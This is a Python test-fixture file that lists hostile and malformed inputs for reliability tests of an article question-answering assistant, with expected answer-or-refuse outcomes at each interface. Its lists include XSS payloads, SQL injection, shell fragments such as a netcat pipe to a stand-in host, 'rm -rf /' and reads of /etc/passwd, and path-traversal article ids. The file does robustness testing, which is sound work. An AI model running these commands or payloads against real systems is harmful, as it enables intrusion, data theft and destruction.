"""The catalogue of hostile and broken inputs every door of the assistant is tried with: the Python
API, the CLI, the HTTP API and the Gradio events (tests/test_reliability_*.py).

A :class:`Case` is one call: a question, a history and an article id (any of them may be of the
wrong type, or absent), and what every door must do with it:

- ``"answer"``: a normal answer (an abstention counts: it is a normal answer);
- ``"refuse"``: a clear error: a ``ValueError``/``LookupError`` subclass of ``ArticleQAError``
  (Python), exit code 2 and one line on stderr (CLI), a 4xx with ``{"error": ...}`` (HTTP), a
  ``gr.Error`` (Gradio);
- ``"either"``: one of the two, never anything else.

``at`` overrides the expectation for one door (``"python"``, ``"cli"``, ``"http"``, ``"gradio"``):
the CLI can only pass text, so a wrong JSON type becomes its ``str()`` there; a lone surrogate
(what invalid UTF-8 becomes in Python) is a normal ``str`` to the Python API, but cannot be
printed or sent as JSON, so every other door refuses it.

:data:`RAW_BODIES` are HTTP request bodies that are not a JSON object of the right shape at all.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from corpus import DEFAULT_ARTICLE_ID

MISSING = object()          # the field is not sent at all
GOOD = "Kegiatan ini mengundang berapa peserta?"
KB100 = 100 * 1024
MB10 = 10 * 1024 * 1024


@dataclass(frozen=True)
class Case:
    id: str
    question: object = GOOD
    history: object = MISSING
    article_id: object = MISSING
    expect: str = "either"
    at: dict[str, str] = field(default_factory=dict)

    def expected(self, door: str) -> str:
        return self.at.get(door, self.expect)

    def args(self) -> tuple[object, object, object]:
        """``(question, history, article_id)`` for a call; absent values as ``None``."""
        return tuple(None if v is MISSING else v for v in (self.question, self.history, self.article_id))

    def body(self) -> dict:
        """The ``POST /api/ask`` JSON body (absent fields left out)."""
        return {k: v for k, v in (("question", self.question), ("history", self.history),
                                  ("article_id", self.article_id)) if v is not MISSING}

    def argv(self) -> list[str]:
        """``article-qa ask`` arguments: every value as text, options in ``--opt=value`` form and the
        question after ``--``, so nothing is mistaken for an option."""
        out = ["ask", "--model", "hash", "--json"]
        if self.article_id is not MISSING and self.article_id is not None:
            out.append(f"--article={self.article_id}")
        if self.history is not MISSING and self.history is not None:
            turns = self.history if isinstance(self.history, (list, tuple)) else [self.history]
            out += [f"--history={turn}" for turn in turns]
        return out + ["--", "" if self.question is None else str(self.question)]


def _cases() -> list[Case]:
    cases: list[Case] = []

    def add(case_id: str, question: object = GOOD, *, history: object = MISSING, article_id: object = MISSING,
            expect: str = "either", **at: str) -> None:
        cases.append(Case(case_id, question, history, article_id, expect, at))

    # controls: ordinary questions must keep working
    add("control-answered", GOOD, expect="answer")
    add("control-abstained", "apa itu pizza?", expect="answer")
    add("control-english", "How many participants were invited?", expect="answer")
    add("control-follow-up", "Berapa?", history=[GOOD], expect="answer")
    add("control-named-article", GOOD, article_id=DEFAULT_ARTICLE_ID, expect="answer")
    add("control-all-articles", GOOD, article_id="*", expect="answer")
    add("control-null-article", GOOD, article_id=None, expect="answer")
    add("control-empty-history", GOOD, history=[], expect="answer")
    add("control-null-history", GOOD, history=None, expect="answer")

    # empty and whitespace
    for i, text in enumerate(["", " ", "   ", "\t", "\n", "\r\n", " \t\n ", "\u00a0", "\u3000", "\u2003",
                              "\u2028", "\u2029", "\x0b\x0c", "\x85", "\n" * 500, " " * 1999, "\t \u00a0\u3000\n"]):
        add(f"empty-{i}", text, expect="refuse")
    for i, text in enumerate(["\u200b", "\u200b\u200c\u200d", "\ufeff", "\u2060", "\u180e"]):
        add(f"invisible-only-{i}", text)                  # not whitespace to Python: answered or refused

    # sizes: the 2,000-character limit, 100 KB and 10 MB
    add("size-2000", "a" * 2000, expect="answer")
    add("size-2000-padded", "  " + "b" * 2000 + "\n\t ", expect="answer")
    add("size-2001", "c" * 2001, expect="refuse")
    add("size-2000-emoji", "🙂" * 2000, expect="answer")
    add("size-2001-emoji", "🙂" * 2001, expect="refuse")
    add("size-combining-3000", "e" + "\u0301" * 3000, expect="refuse")
    add("size-one-word-1999", "kata" * 499 + "?", expect="answer")
    add("size-100kb", "x" * KB100, expect="refuse")
    add("size-100kb-words", ("Berapa peserta? " * (KB100 // 16)), expect="refuse")
    add("size-100kb-whitespace", " " * KB100, expect="refuse")
    add("size-10mb", "y" * MB10, expect="refuse")
    add("size-10mb-multibyte", "é" * (MB10 // 2), expect="refuse")
    add("size-10mb-whitespace", " " * MB10 + "?")          # stripped to "?" where it is read at all

    # NUL and control characters
    for i, text in enumerate(["\x00", "\x00" * 100, "\x01\x02\x03", "\x07", "\x08" * 10, "\x1b", "\x7f",
                              "\x1f\x1e\x1d"]):
        add(f"control-only-{i}", text, expect="refuse")
    for i, text in enumerate(["Berapa\x00peserta?", "Berapa peserta?\x00", "\x00Berapa peserta?",
                              "\x1b[31mBerapa\x1b[0m peserta?", "Berapa\x07 peserta\x08?", "Berapa\rpeserta?",
                              "Berapa\x0bpeserta\x0c?", "Ber\x7fapa peserta?", "\x1b]0;pwned\x07Berapa?",
                              "Berapa peserta?\r\n\r\nX-Injected: 1"]):
        add(f"control-mixed-{i}", text, expect="answer")

    # what invalid UTF-8 becomes in Python: lone surrogates
    for i, text in enumerate(["\ud800", "\udcff", "Berapa \ud83d peserta?", "abc\udfff", "\udcc3\udca9",
                              "\ud800" * 100]):
        add(f"surrogate-{i}", text, expect="refuse", python="either")
    add("surrogate-history", GOOD, history=["Siapa \ud800?"], expect="either")
    add("surrogate-article", GOOD, article_id="inews\udcff", expect="refuse")

    # emoji, right-to-left, zero-width, other scripts and odd code points
    for i, text in enumerate(["🙂", "Berapa peserta? 🎉🎉🎉", "👨‍👩‍👧‍👦" * 50, "🇮🇩🇯🇵 kota pintar?", "👍🏽👍🏿",
                              "\u202eBerapa peserta?", "\u202dBerapa\u202c peserta?", "كم عدد المشاركين؟",
                              "כמה משתתפים הוזמנו?", "Berapa \u2067peserta\u2069?", "Ber\u200bapa pe\u200dserta?",
                              "\u061cBerapa\u200f?", "多少参与者？", "कितने प्रतिभागी?", "Ｂｅｒａｐａ ｐｅｓｅｒｔａ？",
                              "ﬁﬂ ligatur?", "\ufffd\ufffd?", "\uffff\ufffe", "\U0010ffff\U000e0001", "Z̸̢̛̗a̵l̴g̷o" * 20,
                              "Bérápà pésértá?", "ʙᴇʀᴀᴘᴀ ᴘᴇsᴇʀᴛᴀ", "𝐁𝐞𝐫𝐚𝐩𝐚 𝐩𝐞𝐬𝐞𝐫𝐭𝐚?"]):
        add(f"unicode-{i}", text, expect="answer")

    # HTML and script
    for i, text in enumerate(["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg onload=alert(1)>',
                              "javascript:alert(1)", "<iframe src=//evil.example></iframe>",
                              "</div></div><script>x</script>",
                              "&lt;b&gt;&amp;&#x27;", "<!-- Berapa peserta? -->", "<style>*{display:none}</style>",
                              "<a href='javascript:alert(1)'>klik</a>", "{{7*7}} ${7*7} #{7*7}",
                              "{{constructor.constructor('alert(1)')()}}", "<math><mtext><table><mglyph><style>"
                              "<img src=x onerror=alert(1)>", "<meta http-equiv=refresh content=0;url=//evil>",
                              "<base href=//evil.example/>", "<form action=//evil><input name=q></form>",
                              "Berapa <b>peserta</b>?", "<svg><animate onbegin=alert(1) attributeName=x>",
                              "'\"`><\\u003cscript>", "<scr<script>ipt>alert(1)</script>"]):
        add(f"html-{i}", text, expect="answer")

    # Markdown links and images (the chat renders Markdown)
    for i, text in enumerate(["![x](http://127.0.0.1:9/x.png)", "[klik](javascript:alert(1))",
                              "[klik](http://evil.example)", "**tebal** _miring_ ~~coret~~", "# Judul\n## Sub",
                              "```\nrm -rf /\n```", "> kutipan\n> lagi", "| a | b |\n|---|---|\n| 1 | 2 |",
                              "<http://evil.example>", "[x]: http://evil.example\n[x]",
                              "Berapa?\n\n![img](//evil/x.png)",
                              "$$\\frac{1}{0}$$ \\(x\\)", "- [ ] tugas\n- [x] selesai", "[![a](//e/a.png)](//e)",
                              "Berapa peserta?[^1]\n\n[^1]: catatan"]):
        add(f"markdown-{i}", text, expect="answer")

    # SQL and shell fragments, format strings
    for i, text in enumerate(["'; DROP TABLE feedback; --", "1' OR '1'='1", '" OR 1=1 --',
                              "UNION SELECT * FROM sqlite_master",
                              "Robert'); DROP TABLE Students;--", "'; PRAGMA writable_schema=1; --",
                              "$(rm -rf /)", "`id`", "; cat /etc/passwd", "| nc evil.example 4444",
                              "&& shutdown -h now",
                              "${IFS}cat${IFS}/etc/passwd", "%s%s%s%s%n", "{0}{1}{__class__}", "%(question)s",
                              "\\x00\\n\\r", "../../../../etc/passwd", "C:\\Windows\\win.ini", "file:///etc/passwd",
                              "__import__('os').system('id')", "eval('1+1')", "-h", "--help", "--json", "-", "--",
                              "-rf /"]):
        add(f"inject-{i}", text, expect="answer")

    # article ids: path traversal, odd and unknown ids
    for i, aid in enumerate(["../../etc/passwd", "..%2f..%2fetc%2fpasswd", "/etc/passwd", "....//....//etc/passwd",
                             "..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2f", "file:///etc/passwd", "~/.ssh/id_rsa",
                             f"{DEFAULT_ARTICLE_ID}/../../etc/passwd", f"{DEFAULT_ARTICLE_ID}\x00",
                             f"{DEFAULT_ARTICLE_ID}/",
                             DEFAULT_ARTICLE_ID.upper(), f" {DEFAULT_ARTICLE_ID}", f"{DEFAULT_ARTICLE_ID}\n",
                             DEFAULT_ARTICLE_ID.replace("a", "а"), "con", "nul", "nope", "1", "null", "undefined",
                             "None", "__proto__", "constructor", "toString", "default", "**", "?", "#",
                             "<script>alert(1)</script>", "'; DROP TABLE feedback; --", "a" * 10_000, "b" * KB100]):
        add(f"article-{i}", GOOD, article_id=aid, expect="refuse")

    # wrong JSON types (the CLI can only pass text: there each becomes its str())
    for i, q in enumerate([None, 42, 3.14, True, False, [], ["Berapa peserta?"], {}, {"question": GOOD}, -1, 1e308]):
        add(f"type-question-{i}", q, expect="refuse", cli="either")
    for i, h in enumerate(["Berapa?", 42, {}, True, [1], [None], [["a"]], [{"question": 5}], [{"q": "a"}], 3.5,
                           [GOOD, 7], {"0": GOOD}]):
        add(f"type-history-{i}", GOOD, history=h, expect="refuse", cli="either")
    add("type-history-dict-turns", GOOD, history=[{"question": GOOD}])         # chat front-ends send this
    for i, aid in enumerate([42, [], {}, True, 1.5, [DEFAULT_ARTICLE_ID], {"id": DEFAULT_ARTICLE_ID}]):
        add(f"type-article-{i}", GOOD, article_id=aid, expect="refuse", cli="either")

    # history: overlong, malformed, hostile
    add("history-20-turns", "Berapa?", history=[GOOD] * 20, expect="answer")
    add("history-21-turns", GOOD, history=[GOOD] * 21, expect="refuse", cli="refuse")
    add("history-1000-turns", GOOD, history=["q"] * 1000, expect="refuse")
    add("history-turn-100kb", GOOD, history=["x" * KB100], expect="refuse")
    add("history-total-20001", GOOD, history=["y" * 10_000, "z" * 10_001], expect="refuse")
    add("history-empty-turns", GOOD, history=["", " ", "\n"], expect="answer")
    add("history-nul-turns", "Berapa?", history=["\x00", GOOD + "\x00"], expect="answer")
    add("history-html", "Berapa?", history=["<script>alert(1)</script>", "![x](//evil/x.png)"], expect="answer")
    add("history-injection", "Berapa?", history=["'; DROP TABLE feedback; --", "$(id)"], expect="answer")
    add("history-emoji-rtl", "Berapa?", history=["🙂" * 100, "\u202eBerapa?"], expect="answer")
    add("history-10mb", GOOD, history=["h" * MB10], expect="refuse")
    add("history-many-empty", GOOD, history=[""] * 5000, expect="refuse")
    return cases


CASES: list[Case] = _cases()

# HTTP bodies that are not a well-formed JSON object (content type application/json unless noted).
RAW_BODIES: list[tuple[str, bytes, str]] = [
    ("empty", b"", "application/json"),
    ("not-json", b"question=Berapa", "application/json"),
    ("truncated", b'{"question": "Berapa', "application/json"),
    ("invalid-utf8", b'{"question": "\xff\xfe\xfd"}', "application/json"),
    ("invalid-utf8-only", b"\xff\xfe", "application/json"),
    ("overlong-utf8-nul", b'{"question": "\xc0\x80"}', "application/json"),
    ("utf16-bom", '{"question": "Berapa?"}'.encode("utf-16"), "application/json"),
    ("utf8-bom", b'\xef\xbb\xbf{"question": "Berapa?"}', "application/json"),
    ("array", b'["Berapa?"]', "application/json"),
    ("string", b'"Berapa?"', "application/json"),
    ("number", b"42", "application/json"),
    ("null", b"null", "application/json"),
    ("nan", b'{"question": NaN}', "application/json"),
    ("infinity", b'{"question": "q", "history": [Infinity]}', "application/json"),
    ("huge-int", b'{"question": ' + b"9" * 5000 + b"}", "application/json"),
    ("huge-float", b'{"question": 1e999999}', "application/json"),
    ("deep-nesting", b'{"question": "q", "history": ' + b"[" * 100_000 + b"]" * 100_000 + b"}", "application/json"),
    ("deep-nesting-unclosed", b"[" * 200_000, "application/json"),
    ("duplicate-keys", b'{"question": "", "question": "Berapa peserta?"}', "application/json"),
    ("extra-fields", b'{"question": "Berapa?", "admin": true, "__proto__": {"x": 1}}', "application/json"),
    ("nul-bytes", b'{"question": "Ber\x00apa"}', "application/json"),
    ("escaped-nul", b'{"question": "Ber\\u0000apa?"}', "application/json"),
    ("escaped-surrogate", b'{"question": "\\ud800"}', "application/json"),
    ("text-plain", b'{"question": "Berapa?"}', "text/plain"),
    ("form", b"question=Berapa%3F", "application/x-www-form-urlencoded"),
    ("multipart", b"--x\r\nContent-Disposition: form-data; name=question\r\n\r\nBerapa\r\n--x--\r\n",
     "multipart/form-data; boundary=x"),
    ("xml", b"<question>Berapa?</question>", "application/xml"),
    ("no-content-type", b'{"question": "Berapa?"}', ""),
    ("over-256kib", b'{"question": "' + b"x" * (300 * 1024) + b'"}', "application/json"),
    ("10mb", b'{"question": "' + b"y" * MB10 + b'"}', "application/json"),
]
